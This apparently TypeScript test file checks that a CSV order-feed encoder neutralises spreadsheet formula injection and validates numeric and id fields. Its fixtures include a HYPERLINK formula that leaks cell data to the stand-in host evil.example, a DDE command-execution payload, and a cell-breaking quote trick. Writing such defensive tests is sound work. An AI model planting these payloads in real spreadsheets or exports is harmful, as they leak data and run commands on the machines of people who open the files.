// reliability.md scenario 19 / §A4.1: free text neutralised, numbers validated and never altered.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  FeedEncodeError,
  collectDecoded,
  customersFeed,
  encodeCell,
  encodeCsv,
  encodeInventoryAdjustments,
  encodeSalesOrders,
  errorReportCsv,
  inventoryAdjustmentFeed,
  neutralizeFormula,
  rejectedItemsFeed,
  salesOrdersFeed,
  encodeBrokeredItems,
  type InventoryAdjustmentRow,
  type SalesOrderLineRow,
} from '../../../src/feeds/codec';

const line: SalesOrderLineRow = {
  HCOrderId: 'OMS10001',
  externalId: 'SHOP-1001',
  date: '2/29/2024',
  customer: '4711',
  email: 'a@example.com',
  salesChannel: 'WEB',
  subsidiary: '1',
  location: '8',
  shippingMethod: 'STANDARD',
  shippingCost: '5.00',
  orderLineId: '00001',
  item: '1234',
  quantity: 2,
  price: '19.99',
  closed: false,
  addressee: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  address1: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  address2: 'Apt 1","=1+1',
  city: '+Springfield',
  state: '-IL',
  zip: '\t62701',
  country: 'US',
  phone: '+1 (555) 010-0000',
};

const adj: InventoryAdjustmentRow = {
  referenceNo: 'VAR-1',
  adjustmentAccount: '927',
  item: '1234',
  adjustQtyBy: '-5',
  location: '1',
  date: '2/29/2024',
  memo: '\rVAR_DAMAGED',
  subsidiary: '1',
  hcInventoryAdjId: 'VAR-1',
  adjustmentLocation: '1',
};

describe('neutralizeFormula', () => {
  it.each(['=1+1', '+1', '-1', '@x', '\tx', '\rx', '\nx', '\0x'])('prefixes %j', (v) => {
    expect(neutralizeFormula(v)).toBe(`'${v}`);
  });
  it.each(['plain', "'=already", ' =space first', 'a=b', '', '1-2'])('leaves %j alone', (v) => {
    expect(neutralizeFormula(v)).toBe(v);
  });
});

describe('formula injection in an encoded sales-order file', () => {
  it('every free-text cell is neutralised and reads back as one cell; numbers are untouched', async () => {
    const csv = encodeSalesOrders([line]);
    const { rows, errors } = await collectDecoded(salesOrdersFeed.decode(csv));
    expect(errors).toEqual([]);
    const v = rows[0].value;
    expect(v.addressee).toBe(`'${line.addressee}`);
    expect(v.address1).toBe(`'${line.address1}`);
    expect(v.address2).toBe('Apt 1","=1+1'); // separator/quote trick stays inside one quoted cell
    expect(v.city).toBe("'+Springfield");
    expect(v.state).toBe("'-IL");
    expect(v.zip).toBe("'\t62701");
    expect(v.phone).toBe('+1 (555) 010-0000'); // a plain phone number is not a formula
    expect(v.quantity).toBe(2);
    expect(v.price).toBe('19.99');
    // Parsed back by any RFC 4180 reader, no cell but the plain phone number starts with a trigger.
    const dataLine = csv.split('\n')[1];
    expect(dataLine).toContain('"Apt 1"",""=1+1"');
    const cells: string[] = parse(csv, { from_line: 2 })[0];
    expect(cells).toHaveLength(23);
    const risky = cells.filter((c, i) => i !== 22 && /^[=+\-@\t\r\n]/.test(c));
    expect(risky).toEqual([]);
  });

  it('customer name =HYPERLINK("x") is neutralised', () => {
    const csv = customersFeed.encode([
      { HCCustomerId: 'C1', externalId: 'C1', firstName: '=HYPERLINK("x")', lastName: 'Doe', subsidiary: '1', individual: true },
    ]);
    expect(csv.split('\n')[1]).toBe(`C1,C1,"'=HYPERLINK(""x"")",Doe,,,1,T`);
  });

  it('a phone with formula characters is neutralised', () => {
    expect(encodeCell({ name: 'phone', kind: 'phone' }, '+1 555 =cmd', 1)).toBe("'+1 555 =cmd");
    expect(encodeCell({ name: 'phone', kind: 'phone' }, '-1-555-0100', 1)).toBe("'-1-555-0100");
  });

  it('a rejection reason starting with tab or CR is neutralised (CR cell quoted)', async () => {
    const csv = encodeCsv(rejectedItemsFeed.columns, [
      { orderId: 'O1', orderItemSeqId: '1', rejectionComments: '\tcomment', rejectionReason: '\rVAR_STOLEN', facilityId: '11', rejectionId: 'R1' },
    ]);
    expect(csv.split('\n')[1]).toBe(`O1,1,'\tcomment,"'\rVAR_STOLEN",11,R1`);
    const { rows } = await collectDecoded(rejectedItemsFeed.decode(csv));
    expect(rows[0].value).toMatchObject({ rejectionComments: "'\tcomment", rejectionReason: "'\rVAR_STOLEN" });
  });

  it('Adjust Qty By -5 stays -5 while the memo is neutralised', async () => {
    const csv = encodeInventoryAdjustments([adj]);
    expect(csv.split('\n')[1]).toBe(`VAR-1,927,1234,-5,1,2/29/2024,"'\rVAR_DAMAGED",1,VAR-1,1`);
    const { rows } = await collectDecoded(inventoryAdjustmentFeed.decode(csv));
    expect(rows[0].value.adjustQtyBy).toBe(-5);
  });

  it('the error report neutralises too', () => {
    expect(errorReportCsv([{ row: 1, field: '@x', message: '-bad' }])).toBe("row,field,message\n1,'@x,'-bad\n");
  });
});

describe('numeric and id cells are validated, never altered', () => {
  const enc = (patch: Partial<InventoryAdjustmentRow>) => () => encodeInventoryAdjustments([adj, { ...adj, ...patch }]);

  it.each([['abc'], ['5a'], ['1.5'], ['+5'], [' 5'], ['=5'], ['1e3'], [Number.NaN], [1.5], [{}]])(
    'refuses Adjust Qty By %j',
    (bad) => {
      expect(enc({ adjustQtyBy: bad as string })).toThrow(FeedEncodeError);
    },
  );

  it('names the column and the record in the error', () => {
    try {
      enc({ adjustQtyBy: 'five' })();
      throw new Error('no throw');
    } catch (err) {
      expect(err).toBeInstanceOf(FeedEncodeError);
      expect((err as FeedEncodeError).column).toBe('Adjust Qty By');
      expect((err as FeedEncodeError).record).toBe(2);
      expect((err as Error).message).toBe('column "Adjust Qty By" of record 2: expected an integer, got "five"');
    }
  });

  it('refuses a non-numeric or non-positive brokered quantity', () => {
    const row = { internalId: '1', lineId: '1', item: '1', location: '1', quantity: 1 as number | string, closed: 'F' as const, orderLineId: '00001' };
    expect(() => encodeBrokeredItems([{ ...row, quantity: 'two' }])).toThrow(/quantity.*expected an integer/);
    expect(() => encodeBrokeredItems([{ ...row, quantity: 0 }])).toThrow(/greater than zero/);
    expect(() => encodeBrokeredItems([{ ...row, quantity: '-1' }])).toThrow(/greater than zero/);
  });

  it('decimals: exact text kept, bad values refused', () => {
    const col = { name: 'price', kind: 'decimal' } as const;
    expect(encodeCell(col, '19.90', 1)).toBe('19.90');
    expect(encodeCell(col, '-0.5', 1)).toBe('-0.5');
    expect(encodeCell(col, 12.5, 1)).toBe('12.5');
    for (const bad of ['1,5', '.5', '5.', '1e5', 'NaN', '=1', 1e21, Infinity]) {
      expect(() => encodeCell(col, bad, 1)).toThrow(FeedEncodeError);
    }
  });

  it('ids starting with a formula character are refused, not altered', () => {
    for (const bad of ['=1', '+1', '-1', '@1', '\t1', ' 1', 'a b', 'a,b', 'a"b', '']) {
      expect(() => encodeSalesOrders([{ ...line, item: bad }])).toThrow(FeedEncodeError);
    }
    expect(() => encodeSalesOrders([{ ...line, externalId: 'gid://shopify/Order/1' }])).not.toThrow();
  });

  it('required cells must be present; flags are T/F', () => {
    expect(() => encodeSalesOrders([{ ...line, customer: undefined as unknown as string }])).toThrow(/"customer".*required/);
    expect(() => encodeSalesOrders([{ ...line, closed: 'yes' as 'T' }])).toThrow(/"closed"/);
    expect(encodeSalesOrders([{ ...line, closed: true }]).split('\n')[1]).toContain(',T,');
  });
});
